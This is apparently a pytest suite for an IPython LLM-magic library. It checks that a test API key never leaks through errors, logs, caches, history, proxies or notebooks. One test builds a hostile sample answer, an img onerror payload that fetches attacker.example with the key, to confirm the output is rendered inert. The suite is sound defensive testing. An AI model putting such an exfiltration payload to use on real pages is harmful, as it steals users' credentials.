"""Every reliability path run with one recognisable key, and everything observable scanned for it.

Scanned: exceptions (str, repr, both languages, the short render, the ``--debug`` render,
``traceback.format_exception`` and every exception in the chain, suppressed ones included),
``repr`` of every public object, log records at DEBUG (urllib3's included), anything printed,
and, through a real ``InteractiveShell``: displayed outputs, IPython history, a saved notebook,
and the replay cache file. Forbidden: the key, and any 8 characters in a row of it, so the
first 8 characters count as a leak too; the mask ``sk-…4068`` is what may be shown.
"""

from __future__ import annotations

import json
import logging
import pickle
import random
import traceback
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import llm_magic
from llm_magic import errors as e
from llm_magic.engine.client import stream_events
from llm_magic.engine.request import prepare_call
from llm_magic.keys import lookup as keys
from llm_magic.loopback import Reply
from llm_magic.secrets import mask

from . import matrix
from .test_fault_matrix import run_row
from .test_soak import MIX, TEXT

KEY = "sk-test-AUDIT-7f3a9c2e5b1d4068"
MASKED = mask(KEY)
WINDOWS = {KEY[i:i + 8] for i in range(len(KEY) - 7)}


class Observed:
    """Every text a user, a log or a file could show, labelled with where it came from."""

    def __init__(self) -> None:
        self.texts: list[tuple[str, str]] = []
        self.errors = 0

    def add(self, where: str, text: Any) -> None:
        self.texts.append((where, text if isinstance(text, str) else repr(text)))

    def error(self, where: str, error: BaseException) -> None:
        """An exception in every form it can be shown, and every exception chained to it."""
        self.errors += 1
        self.add(f"{where}: format_exception", "".join(traceback.format_exception(error)))
        seen: set[int] = set()
        current: BaseException | None = error
        while current is not None and id(current) not in seen:  # suppressed contexts too
            seen.add(id(current))
            self.add(f"{where}: str/repr of {type(current).__name__}", f"{current} {current!r} {current.args!r}")
            current = current.__cause__ or current.__context__
        if isinstance(error, e.LLMError):
            for language in ("en", "zh", "both"):
                self.add(f"{where}: texts({language})", error.texts(language))
            self.add(f"{where}: headline", error.headline())
            self.add(f"{where}: render", "\n".join(error._render_traceback_()))
            error.show_traceback = True  # what --debug shows
            self.add(f"{where}: debug render", "\n".join(error._render_traceback_()))
            error.show_traceback = False
            self.add(f"{where}: partial", f"{error.partial!r} {error.partial.metadata() if error.partial else ''}")
            self.add(f"{where}: pickled", repr(pickle.loads(pickle.dumps(error))))

    def leaks(self) -> list[str]:
        found = []
        for where, text in self.texts:
            for window in WINDOWS:
                if window in text:
                    found.append(f"{window!r} in {where}: …{text[max(0, text.find(window) - 60):][:160]!r}")
                    break
        return found


@pytest.fixture
def debug_logs(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    root = logging.getLogger()
    levels = {name: logging.getLogger(name).level for name in ("", "urllib3", "requests")}
    root.setLevel(logging.DEBUG)
    logging.getLogger("urllib3").setLevel(logging.DEBUG)
    caplog.set_level(logging.DEBUG)
    yield caplog
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)


def _engine_paths(seen: Observed, fake_provider, monkeypatch, tmp_path: Path) -> None:
    monkeypatch.setattr(llm_magic.settings, "connect_timeout", matrix.CONNECT_TIMEOUT)
    monkeypatch.setattr(llm_magic.settings, "max_retries", matrix.MAX_RETRIES)
    monkeypatch.setattr(llm_magic.settings, "backoff", matrix.BACKOFF)

    # the fault matrix, every row, both modes, with the key from the provider's variable
    for row in matrix.ROWS:
        for stream in matrix.MODES:
            observed = run_row(row, stream, fake_provider, monkeypatch, key=KEY)
            if row.expect(stream).error is matrix.ANSWERED:
                assert observed.error is None, (row.name, observed.error)
                seen.add(f"matrix {row.name} stream={stream}", f"{observed.answer!r} {observed.answer.metadata()!r}")
                continue
            assert isinstance(observed.error, e.LLMError), (row.name, observed.error)
            seen.error(f"matrix {row.name} stream={stream}", observed.error)
    assert keys.lookup_key(llm_magic.get_provider("deepseek")).value == KEY
    seen.add("KeyLookup repr", keys.lookup_key(llm_magic.get_provider("deepseek")))

    # answers, retries and prepared calls with the key given as an argument
    server = fake_provider("deepseek", key=KEY)
    server.queue(Reply.error(503), Reply.answer(TEXT, reasoning="先想一想"))
    events = list(stream_events("deepseek", "hi", key=KEY))
    seen.add("events (RetryWait, deltas, Finished)", events)
    answer = events[-1].answer
    seen.add("Answer", f"{answer!r} {answer.metadata()!r} {pickle.loads(pickle.dumps(answer))!r}")
    call = prepare_call("deepseek", "hi", key=KEY)
    seen.add("PreparedCall", f"{call!r} {call.parameters!r} {call.url}")
    seen.add("settings", llm_magic.settings)

    # bad input carrying the key, as an argument, a variable and a .env line
    variants = [KEY.replace("-7f3a", " 7f3a"), KEY + "\n" + KEY, KEY.replace("AUDIT", "ＡＵＤＩＴ"),
                KEY + "é", KEY.replace("-", "\x00", 1), KEY + "\u200b"]
    for variant in variants:
        with pytest.raises(e.ConfigurationError) as caught:
            llm_magic.ask("deepseek", "hi", key=variant)
        seen.error(f"malformed key argument {variant!r:.12}", caught.value)
    monkeypatch.setenv("DEEPSEEK_API_KEY", variants[0])
    with pytest.raises(e.ConfigurationError) as caught:
        llm_magic.ask("deepseek", "hi")
    seen.error("malformed key variable", caught.value)
    monkeypatch.delenv("DEEPSEEK_API_KEY")
    (tmp_path / ".env").write_bytes(b"DEEPSEEK_API_KEY=" + variants[2].encode() + b"\n\xff\xfe")
    with pytest.raises(e.LLMError) as caught:
        llm_magic.ask("deepseek", "hi")
    seen.error("malformed key in .env", caught.value)
    (tmp_path / ".env").unlink()
    for url in ("http://example.com/v1", "not a url", "https://llm-magic-audit.invalid/v1"):
        with pytest.raises(e.LLMError) as caught:
            llm_magic.ask("deepseek", "hi", key=KEY, base_url=url, timeout=1)
        seen.error(f"base URL {url}", caught.value)
    with pytest.raises(e.ConfigurationError) as caught:
        llm_magic.ask("deepseek", "x" * 3_000_000, key=KEY)
    seen.error("huge prompt", caught.value)

    # a short soak with the soak's random faults
    rng = random.Random(7)
    for i in range(120):
        _, name, replies, _ = rng.choices(MIX, [w for w, *_ in MIX])[0]
        server.reset()
        server.queue(*replies)
        try:
            seen.add(f"soak answer {i}", repr(llm_magic.ask("deepseek", "hi", key=KEY, stream=rng.random() < 0.5,
                                                            timeout=0.5)))
        except e.LLMError as error:
            seen.error(f"soak {i} {name}", error)

    # the replay cache file
    from llm_magic.engine import cache

    path = tmp_path / "replay.sqlite"
    cache.configure(path)
    try:
        server.reset()
        server.queue(Reply.answer(TEXT))
        for _ in range(2):  # record, then replay
            replayed = list(cache.cached_stream("deepseek", "cache me", key=KEY))
        assert replayed[-1].answer.replayed and server.request_count == 1
        seen.add("cache events", replayed)
        cache.get_cache().close()
    finally:
        cache.configure(None)
    for file in tmp_path.glob("replay.sqlite*"):
        seen.add(f"cache file {file.name}", file.read_bytes().decode("utf-8", errors="replace"))


def test_every_reliability_path_leaks_the_key_nowhere(fake_provider, monkeypatch, tmp_path, debug_logs, capfd):
    seen = Observed()
    _engine_paths(seen, fake_provider, monkeypatch, tmp_path)
    out, err = capfd.readouterr()
    seen.add("stdout", out)
    seen.add("stderr", err)
    assert any(r.name.startswith("urllib3") for r in debug_logs.records), "urllib3 debug logging was not captured"
    for record in debug_logs.records:
        seen.add(f"log {record.name}", f"{record.getMessage()} {record.args!r} {record.exc_text or ''}")
    leaks = seen.leaks()
    assert not leaks, leaks[:5]
    assert seen.errors > 2 * len(matrix.ROWS)


# -- the same faults through the magics, in a real InteractiveShell ------------------------------
def test_faults_through_the_magics_leak_the_key_nowhere(shell, fake_provider, monkeypatch, tmp_path, debug_logs):
    from IPython.utils.capture import capture_output

    monkeypatch.setattr(llm_magic.settings, "backoff", matrix.BACKOFF)
    monkeypatch.setattr(llm_magic.settings, "connect_timeout", matrix.CONNECT_TIMEOUT)
    server = fake_provider("deepseek", key=KEY)  # sets DEEPSEEK_API_KEY and DEEPSEEK_BASE_URL
    seen = Observed()
    cells: list[dict[str, Any]] = []

    def run(source: str, *replies: Reply) -> None:
        server.reset()
        server.queue(*replies)
        with capture_output() as captured:
            result = shell.run_cell(source, store_history=True)
        failure = result.error_in_exec or result.error_before_exec
        outputs = [{"stdout": captured.stdout, "stderr": captured.stderr}]
        outputs += [{"data": o.data, "metadata": o.metadata} for o in captured.outputs]
        if failure is not None:
            seen.error(f"cell {source!r}", failure)
            outputs.append({"ename": type(failure).__name__, "evalue": str(failure)})
        cells.append({"cell_type": "code", "source": source, "outputs": outputs})
        seen.add(f"outputs of {source!r}", json.dumps(outputs, ensure_ascii=False, default=repr))

    run("%llm_key")
    run("%%llm deepseek\n你好", Reply.answer(TEXT))
    run("%%llm deepseek --no-stream\n你好", Reply.answer(TEXT))
    for debug in ("", " --debug"):
        run(f"%%llm deepseek{debug}\ncut", Reply.fault("close_mid_event", after=3, text=TEXT))
        run(f"%%llm deepseek{debug} --timeout 0.5\nstall", Reply.fault("stall_mid_stream", after=3, seconds=30))
        run(f"%%llm deepseek{debug}\nretry", *[Reply.error(503)] * 3)
        run(f"%%llm deepseek{debug} --no-stream\nhtml", Reply.fault("html_body"))
        run(f"%%llm deepseek{debug}\nerror", Reply.fault("error_in_stream", after=2))
        run(f"%%llm deepseek{debug}\nauth", Reply.error("auth"))
    run("%%llm deepseek --timeout -1\nbad option")
    monkeypatch.setenv("DEEPSEEK_BASE_URL", "https://llm-magic-audit.invalid/v1")
    run("%%llm deepseek --debug\ndns")
    monkeypatch.setenv("DEEPSEEK_BASE_URL", "http://example.com/v1")
    run("%%llm deepseek --debug\nplain http")
    seen.add("_llm and Out", f"{shell.user_ns.get('_llm')!r} {shell.user_ns.get('Out')!r}")

    history = shell.history_manager
    history.writeout_cache()
    seen.add("history lists", history.input_hist_raw + history.input_hist_parsed)
    seen.add("history database", list(history.db.execute("SELECT source, source_raw FROM history")))
    notebook = tmp_path / "audit.ipynb"
    notebook.write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells},
                                   ensure_ascii=False, default=repr), encoding="utf-8")
    seen.add("saved notebook", notebook.read_text(encoding="utf-8"))
    for record in debug_logs.records:
        seen.add(f"log {record.name}", f"{record.getMessage()} {record.exc_text or ''}")

    leaks = seen.leaks()
    assert not leaks, leaks[:5]
    assert seen.errors >= 12
    assert MASKED in "".join(text for where, text in seen.texts if "%llm_key" in where)


def test_replay_cache_through_the_magic(shell, fake_provider, monkeypatch, tmp_path):
    from IPython.utils.capture import capture_output

    server = fake_provider("deepseek", key=KEY)
    server.queue(Reply.answer(TEXT))
    outputs = []
    for _ in range(2):  # record, then replay
        with capture_output() as captured:
            result = shell.run_cell("%%llm deepseek --cache\ncache me", store_history=True)
        assert result.success
        outputs.append(captured.stdout + repr([o.data for o in captured.outputs]))
    assert server.request_count == 1
    seen = Observed()
    seen.add("outputs", outputs)
    scanned = []
    for file in Path.cwd().glob("*.sqlite*"):  # the replay cache and the shell's history database
        try:
            data = file.read_bytes()
        except FileNotFoundError:
            continue  # a SQLite journal that came and went while we looked
        scanned.append(file.name)
        seen.add(f"sqlite file {file.name}", data.decode("utf-8", errors="replace"))
    assert ".llm_magic_cache.sqlite" in scanned and "history.sqlite" in scanned
    assert not seen.leaks()


# -- the hostile paths: %xmode Verbose, proxies, a pasted key, a hostile answer's HTML -----------
def test_hostile_paths_leak_the_key_nowhere(shell, fake_provider, monkeypatch, tmp_path, debug_logs):
    from IPython.utils.capture import capture_output

    from tests.harness.listener import RecordingListener
    from tests.harness.markup_check import live_in_bundle

    server = fake_provider("deepseek", key=KEY)
    seen = Observed()

    def run(source: str, *replies: Reply, pasted: bool = False) -> list[dict[str, Any]]:
        """``pasted``: the key is in the cell's own text, so a full traceback quotes it as the cell's
        source (the notebook holds it anyway); what llm_magic shows is checked: the short message."""
        server.queue(*replies)
        with capture_output() as captured:
            result = shell.run_cell(source, store_history=True)
        failure = result.error_in_exec or result.error_before_exec
        if failure is not None and not pasted:
            seen.error(f"cell {source!r}", failure)
        elif isinstance(failure, e.LLMError):
            seen.errors += 1
            seen.add(f"refusal of {source!r}", f"{failure} {failure!r} {failure.texts('both')} "
                                               f"{chr(10).join(failure._render_traceback_())}")
        data = [o.data for o in captured.outputs]
        seen.add(f"printed by {source!r}", captured.stdout + captured.stderr)
        seen.add(f"displayed by {source!r}", json.dumps([(o.data, o.metadata) for o in captured.outputs],
                                                         ensure_ascii=False, default=repr))
        return data

    shell.run_cell("%load_ext llm_magic")
    # %xmode Verbose: a crash inside urllib3 while it holds the request headers, and one in the engine
    shell.run_cell("%xmode Verbose")
    with monkeypatch.context() as patched:
        patched.setattr("urllib3.connectionpool.HTTPConnectionPool._make_request",
                        lambda *a, **k: (_ for _ in ()).throw(RuntimeError("deep bug")))
        run("%%llm deepseek\nhi")
        run("import llm_magic\nllm_magic.ask('deepseek', 'hi')")
    with monkeypatch.context() as patched:
        patched.setattr("llm_magic.engine.assemble.AnswerBuilder.add_chunk",
                        lambda *a, **k: (_ for _ in ()).throw(RuntimeError("engine bug")))
        run("%%llm deepseek --debug\nhi")
    run("%%llm deepseek --debug\nauth", Reply.error("auth"))
    shell.run_cell("%xmode Context")

    # proxies in the environment: loopback bypasses them, remote HTTPS tunnels through them
    with RecordingListener() as proxy:
        for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(variable, proxy.url)
        run("%%llm deepseek\nthrough a proxy?", Reply.answer(TEXT))
        with pytest.raises(e.LLMError) as caught:
            llm_magic.ask("deepseek", "hi", key=KEY, base_url="https://llm-magic-audit.invalid/v1", max_retries=0)
        seen.error("remote call through the proxy", caught.value)
    seen.add("bytes the proxy received", proxy.everything.decode("latin-1"))
    assert proxy.everything.startswith(b"CONNECT llm-magic-audit.invalid:443")
    for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(variable)

    # a key pasted into a prompt: refused; with --allow-secrets sent, but shown masked everywhere
    before = server.request_count
    run(f"%%llm deepseek\nwhy is {KEY} rejected?", pasted=True)
    shell.user_ns["pasted"] = KEY
    run("%%llm deepseek\nmy key: {pasted}")
    assert server.request_count == before, "a pasted key was sent"
    run(f"%%llm deepseek --allow-secrets --chat\nwhy is {KEY} rejected?", pasted=True)
    assert server.request_count == before + 1
    run("%llm_history")
    seen.add("_llm after --allow-secrets", f"{shell.user_ns['_llm'].text} {shell.user_ns['_llm']!r}")

    # a hostile answer that repeats the key inside live HTML: shown as text, masked
    hostile = f'<img src=x onerror="fetch(`https://attacker.example/?k={KEY}`)"> {KEY}'
    shown = run(f"%%llm deepseek --allow-secrets\n{KEY}", Reply.answer(hostile), pasted=True)
    shown += run(f"%%llm deepseek --allow-secrets -f html\n{KEY}", Reply.answer(hostile), pasted=True)
    assert shown and all(live_in_bundle(data) == [] for data in shown)

    for record in debug_logs.records:
        seen.add(f"log {record.name}", f"{record.getMessage()} {record.exc_text or ''}")
    leaks = seen.leaks()
    assert not leaks, leaks[:5]
    assert seen.errors >= 5
